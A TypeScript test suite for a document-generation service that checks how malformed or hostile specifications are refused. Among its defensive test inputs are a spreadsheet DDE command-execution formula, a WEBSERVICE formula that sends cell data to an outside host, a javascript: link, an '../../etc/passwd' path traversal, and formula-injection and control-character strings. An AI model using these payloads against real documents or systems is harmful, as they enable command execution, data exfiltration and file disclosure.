/** What documents cannot be made of: each with its code, its place, what was there, and what to do. */
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { keepArtifact } from "../../src/artifacts/keep-artifact.ts";
import { query } from "../../src/db.ts";
import { failureOf, FORMATS, makeFile } from "../support/documents.ts";
import { createDraft, createPublishing, type Publishing } from "../support/publishing.ts";
import { scriptedExecutions } from "../support/scripted-executions.ts";

let room: Publishing;
beforeAll(async () => {
  room = await createPublishing({ executions: scriptedExecutions() });
});
afterAll(() => room?.close());

const table = (rows: unknown[], columns: unknown[] = [{ header: "A" }, { header: "B", type: "date" }]) => ({
  content: [
    { type: "heading", text: "T" },
    { type: "table", columns, rows },
  ],
});
const many = <T>(length: number, each: T): T[] => Array.from({ length }, () => each);

/** What the payload says beside format and title, the code, the place of the first problem, and what its message holds. */
const TABLE: Record<string, [payload: () => object, code: string, path: string, says: RegExp]> = {
  "nothing to make it of": [() => ({}), "specification_invalid", "/payload", /exactly one of .*there is none/],
  "two things to make it of": [
    () => ({ specification: { content: [] }, code: "return 1" }),
    "specification_invalid",
    "/payload",
    /there is specification and code/,
  ],
  "an unknown report": [
    () => ({ report: "annual" }),
    "specification_invalid",
    "/payload/report",
    /only the report release/,
  ],
  "no content": [() => ({ specification: {} }), "specification_invalid", "/payload/specification/content", /./],
  "a content that is a text": [
    () => ({ specification: { content: "all of it" } }),
    "specification_invalid",
    "/payload/specification/content",
    /array/,
  ],
  "an unknown block": [
    () => ({ specification: { content: [{ type: "chart" }] } }),
    "specification_invalid",
    "/payload/specification/content/0/type",
    /./,
  ],
  "a member that a block has not": [
    () => ({ specification: { content: [{ type: "heading", text: "T", colour: "red" }] } }),
    "specification_invalid",
    "/payload/specification/content/0",
    /colour/,
  ],
  "an unknown time zone": [
    () => ({ specification: { content: [], time_zone: "Mars/Olympus" } }),
    "specification_invalid",
    "/payload/specification/time_zone",
    /IANA/,
  ],
  "rows and a source": [
    () => ({
      specification: { content: [{ type: "table", columns: [{ header: "A" }], rows: [], source: "overlays" }] },
    }),
    "specification_invalid",
    "/payload/specification/content/0",
    /either rows or a source/,
  ],
  "a row longer than the columns": [
    () => ({ specification: table([["a", "2026-01-01", "c"]]) }),
    "specification_invalid",
    "/payload/specification/content/1/rows/0",
    /at most 2 cells/,
  ],
  "a cell of a wrong type": [
    () => ({ specification: table([[["nested"]]]) }),
    "specification_invalid",
    "/payload/specification/content/1/rows/0/0",
    /must have just formula/,
  ],
  "a day that is none": [
    () => ({ specification: table([["a", "2026-02-30"]]) }),
    "specification_invalid",
    "/payload/specification/content/1/rows/0/1",
    /ISO 8601/,
  ],
  "a formula that calls a program": [
    () => ({ specification: table([[{ formula: "cmd|' /C calc'!A0" }]]) }),
    "specification_invalid",
    "/payload/specification/content/1/rows/0/0",
    /another program/,
  ],
  "a formula that reaches out": [
    () => ({ specification: table([[{ formula: '=WEBSERVICE("http://example.com/"&A1)' }]]) }),
    "specification_invalid",
    "/payload/specification/content/1/rows/0/0",
    /WEBSERVICE reaches out/,
  ],
  "a link that runs something": [
    () => ({ specification: table([[{ text: "x", link: "javascript:alert(1)" }]]) }),
    "specification_invalid",
    "/payload/specification/content/1/rows/0/0",
    /http, https or mailto/,
  ],
  "a million columns": [
    () => ({ specification: table([], many(1_000_000, { header: "A" })) }),
    "document_too_large",
    "",
    /1000000 columns in a table, more than 256/,
  ],
  "ten million cells": [
    () => ({ specification: table(many(100_000, many(100, 1))) }),
    "document_too_large",
    "",
    /cells, more than 2000000/,
  ],
  "a picture that is not there": [
    () => ({ specification: { content: [{ type: "picture", artifact: "../../etc/passwd" }] } }),
    "specification_invalid",
    "/payload/specification/content/0/artifact",
    /no such artifact/,
  ],
  "a map of no version": [
    () => ({ specification: { content: [{ type: "map_view" }] } }),
    "specification_invalid",
    "/payload/specification/content/0",
    /needs project and version/,
  ],
};

it.each(Object.entries(TABLE))("refused: %s", async (_, [payload, code, path, says]) => {
  const error = await failureOf(makeFile(room, { format: "pdf", title: "T", ...payload() }));
  expect([error.code, error.problems?.[0]?.path ?? ""]).toEqual([code, path]);
  expect(error.problems[0]?.message ?? error.message).toMatch(says);
  expect(error.action).not.toBe("");
});

it("every problem is told at once, with what was there", async () => {
  const rows = [
    ["a", "tomorrow"],
    [1, 2, 3],
  ];
  const error = await failureOf(makeFile(room, { format: "pdf", title: "T", specification: table(rows) }));
  expect(error.problems).toMatchObject([
    { code: "cell_invalid", path: "/payload/specification/content/1/rows/0/1", value: '"tomorrow"' },
    { code: "row_invalid", path: "/payload/specification/content/1/rows/1", value: "[1,2,3]" },
  ]);
});

it("a draft has no release report, and neither has nothing", async () => {
  const draft = await createDraft(room);
  const error = await failureOf(makeFile(room, { format: "pdf", title: "T", report: "release" }, draft));
  expect([error.code, error.message]).toEqual([
    "not_released",
    `There is no release to report on: ${draft.project} v1 is a draft.`,
  ]);
  expect((await failureOf(makeFile(room, { format: "pdf", title: "T", report: "release" }))).code).toBe("not_released");
});

it.each([
  ["noise", Buffer.from("not a picture at all")],
  [
    "an SVG, which could ask for files",
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'),
  ],
  ["a PNG that is cut off", Buffer.from("89504e470d0a1a0a0000000d49484452000000100000001008060000001ff3ff61", "hex")],
])("a picture that is none is told by its place: %s", async (_, bytes) => {
  const { id } = await keepArtifact(
    { db: room.database.em.fork(), store: room.stores.private },
    {
      ...{
        id: randomUUID(),
        tenant_id: room.tenant_id,
        tenant: "harbour",
        kind: "upload",
        job_id: null,
        project_id: null,
      },
      ...{ name: "p.png", media_type: "image/png", created_by: null },
      // While a job uses it, it stays for longer.
      expires_at: new Date(Date.now() + 3_600_000).toISOString(),
    },
    bytes,
  );
  const specification = { content: [{ type: "picture", artifact: id }] };
  const error = await failureOf(makeFile(room, { format: "document", title: "T", specification }));
  const db = room.database.em.fork();
  const kept = `select expires_at > now() + interval '2 days' as kept from artifacts where id = $1`;
  expect(await query(db, kept, [id])).toEqual([{ kept: true }]);
  expect(error.problems).toMatchObject([
    { code: "picture_invalid", path: "/payload/specification/content/0/artifact" },
  ]);
});

describe.each(FORMATS)("a %s", (format) => {
  it("takes texts that hold what no format can, and leaves that out", { timeout: 60_000 }, async () => {
    const hostile =
      "NUL \u0000, half \ud83d of a character, bell \u0007, \ufffe, <b>&amp;</b>, ]]>, \u202eright to left, #[typst] $x$ `raw`";
    const specification = {
      content: [
        { type: "heading", text: hostile },
        { type: "paragraph", text: hostile },
        { type: "list", items: [hostile] },
        ...table([
          [hostile, "0000-01-01"],
          ["=1+1", "+275760-09-13"],
          ["@x", "1899-12-31"],
        ]).content,
      ],
    };
    const { bytes } = await makeFile(room, { format, title: hostile, specification });
    expect(bytes.length).toBeGreaterThan(1_000);
  });

  it("can be empty", { timeout: 60_000 }, async () => {
    const { bytes } = await makeFile(room, { format, title: "Empty", specification: { content: [] } });
    expect(bytes.length).toBeGreaterThan(500);
  });
});
